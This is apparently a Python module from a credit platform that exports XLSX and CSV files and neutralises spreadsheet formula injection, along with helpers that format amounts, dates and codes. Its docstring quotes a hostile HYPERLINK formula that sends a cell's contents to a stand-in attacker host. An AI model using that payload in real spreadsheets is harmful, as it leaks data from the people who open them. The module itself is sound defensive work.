"""Cells of spreadsheet exports (XLSX and CSV): text that a spreadsheet program would run as a
formula is written so that it never is (CSV / formula injection, OWASP).

Every export of the platform writes its cells through these two functions: an enterprise, a
provider or an institution names things that an operator later opens in Excel, and an institution
named ``=HYPERLINK("http://evil.example/?leak="&B2,"Open")`` once became a live link in the
lending-outcomes workbook.

- XLSX: text keeps its exact value but is typed as a string, so openpyxl (which makes any text
  starting with ``=`` a formula) writes it as a string and Excel shows it as typed.
- CSV: a file has no types; text starting with ``= + - @``, a tab or a carriage return gets a
  leading ``'``, which Excel and LibreOffice show and never evaluate.

Numbers stay numbers in both: a negative amount is not text and is not a formula (in a CSV, neither
is text that is only a signed number, such as ``-12.5`` read from a delivered file).
"""

from __future__ import annotations

import csv
import io
import numbers
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from datetime import datetime
from decimal import ROUND_HALF_UP, Decimal
from typing import TYPE_CHECKING, Any, Final

from creditbridge.core.clock import to_local
from creditbridge.presentation import formatting

if TYPE_CHECKING:
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

    from creditbridge.presentation.i18n import Language

FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
"""A text cell starting with one of these is read as a formula by Excel, LibreOffice or Sheets."""

_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
"""Text that a spreadsheet reads as a number: signs, digits, a point and an exponent cannot name a
function or a cell, so "-12.5" in a CSV stays the number it is."""


def _is_number(value: object) -> bool:
    # numbers.Number covers Decimal and numpy's scalars; a bool is a flag, written as text.
    return isinstance(value, numbers.Number) and not isinstance(value, bool)


def xlsx_cell(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Any:
    """``value`` for ``sheet.append``: text that could be a formula becomes a cell typed as a
    string (value unchanged); anything else is returned as is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    from openpyxl.cell.cell import Cell

    # Row and column are placeholders that ``append`` replaces (as openpyxl's WriteOnlyCell).
    cell = Cell(sheet, row=1, column=1, value=value)
    # Set after the value: openpyxl's value setter types text starting with "=" as a formula.
    cell.data_type = "s"
    return cell


def xlsx_row(sheet: Worksheet | WriteOnlyWorksheet, values: Any) -> list[Any]:
    """A row for ``sheet.append`` with every cell passed through :func:`xlsx_cell`."""
    return [xlsx_cell(sheet, value) for value in values]


def csv_cell(value: Any) -> str:
    """``value`` as a CSV field: None is empty, numbers as written, text that could be a formula
    prefixed with ``'``."""
    if value is None:
        return ""
    if _is_number(value):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(values: Any) -> list[str]:
    """A row for ``csv.writer.writerow`` with every field passed through :func:`csv_cell`."""
    return [csv_cell(value) for value in values]


# ------------------------------------------------------------------ values for people in exports
#
# An export is read by people in Excel and summed by formulas: figures stay numbers (an amount
# in 万元 as a Decimal with two places, a count as an int), and the unit goes in the header ("授信金额（万元）") instead of every cell; codes are
# written by name (合肥市, 制造业, A级, 严重, 每月) through the same functions the pages use, and
# dates are local dates. Masked figures are written as the pages show them (***万元).


@dataclass(frozen=True, slots=True)
class Column:
    """One column of an export.

    ``kind`` says how a raw value becomes a cell:

    - ``text`` (as is), ``number`` (as is, a number), ``count`` (an int)
    - ``money`` (fen → Decimal 万元, header gets "（万元）"), ``wan_yuan`` (already 万元)
    - ``ratio`` (a fraction, written as the pages write it: 85.3%), ``change`` (+3.2%, −1.5%)
    - ``date``, ``datetime`` (local time), ``month`` (2026年11月), ``duration`` (months → 3年4个月)
    - ``division``, ``industry``, ``tax_grade``, ``severity``, ``frequency`` (names of codes)
    """

    header: str
    kind: str = "text"
    unit: str = ""

    def title(self, lang: Language) -> str:
        unit = self.unit or _HEADER_UNITS.get(self.kind, ("", ""))[0 if lang == "zh" else 1]
        if not unit:
            return self.header
        return f"{self.header}（{unit}）" if lang == "zh" else f"{self.header} ({unit})"


_HEADER_UNITS: Final[dict[str, tuple[str, str]]] = {
    "money": ("万元", "CNY 10k"),
    "wan_yuan": ("万元", "CNY 10k"),
}


def export_value(column: Column, value: Any, lang: Language) -> Any:
    """``value`` as the cell of ``column``: a number where a spreadsheet should sum it, text by
    the formatting module where a person reads it."""
    if value is None or value == "":
        return None
    kind = column.kind
    if kind in ("money", "wan_yuan"):
        masked = formatting.format_masked_figure("amount", "wan_yuan", value, lang)
        if masked is not None:
            return masked
        amount = Decimal(str(value))
        if kind == "money":
            amount = amount / Decimal(1_000_000)
        return amount.quantize(Decimal("0.01"), ROUND_HALF_UP)
    if kind == "count":
        return int(value)
    if kind in ("ratio", "change"):
        return formatting.format_ratio(value, lang, signed=kind == "change")
    if kind == "date":
        if isinstance(value, datetime):
            return to_local(value).date()
        return value
    if kind == "datetime":
        return to_local(value).replace(tzinfo=None) if isinstance(value, datetime) else value
    if kind in _NAMED:
        return _NAMED[kind](value, lang)
    return value


_NAMED: Final[dict[str, Callable[[Any, Language], str]]] = {
    "month": formatting.format_month,
    "duration": formatting.format_duration,
    "division": formatting.format_division,
    "industry": formatting.format_industry,
    "tax_grade": formatting.format_tax_grade,
    "severity": formatting.format_severity,
    "frequency": formatting.format_frequency,
}


def export_table(
    columns: Sequence[Column], rows: Iterable[Sequence[Any]], lang: Language = "zh"
) -> tuple[list[str], list[list[Any]]]:
    """Headers with units and rows of cells for :func:`csv_bytes` or :func:`xlsx_bytes`."""
    headers = [column.title(lang) for column in columns]
    cells = [
        [export_value(column, value, lang) for column, value in zip(columns, row, strict=True)]
        for row in rows
    ]
    return headers, cells


def csv_bytes(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """A CSV file (UTF-8 with BOM, so Excel reads the Chinese), every cell through csv_cell."""
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(csv_row(headers))
    for row in rows:
        writer.writerow(csv_row(row))
    return ("\ufeff" + text.getvalue()).encode()


def xlsx_bytes(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """An XLSX workbook of one sheet, every cell through xlsx_cell; dates typed as dates."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(xlsx_row(sheet, headers))
    for row in rows:
        sheet.append(xlsx_row(sheet, row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# ------------------------------------------------------------------ files to download

CSV_MEDIA_TYPE: Final = "text/csv; charset=utf-8"
XLSX_MEDIA_TYPE: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True, slots=True)
class Download:
    """A file for the browser to save: a page answers it as
    ``Response(d.content, media_type=d.media_type, headers=d.headers)``."""

    filename: str
    media_type: str
    content: bytes

    @property
    def headers(self) -> dict[str, str]:
        return {"Content-Disposition": f'attachment; filename="{self.filename}"'}


def export_download(
    name: str, fmt: str, headers: Sequence[str], rows: Iterable[Sequence[Any]]
) -> Download:
    """A list exported as ``{name}.xlsx`` (``fmt`` "xlsx", :func:`xlsx_bytes`) or ``{name}.csv``
    (otherwise, :func:`csv_bytes`): every cell safe from formula injection."""
    if fmt == "xlsx":
        return Download(f"{name}.xlsx", XLSX_MEDIA_TYPE, xlsx_bytes(headers, rows))
    return Download(f"{name}.csv", CSV_MEDIA_TYPE, csv_bytes(headers, rows))
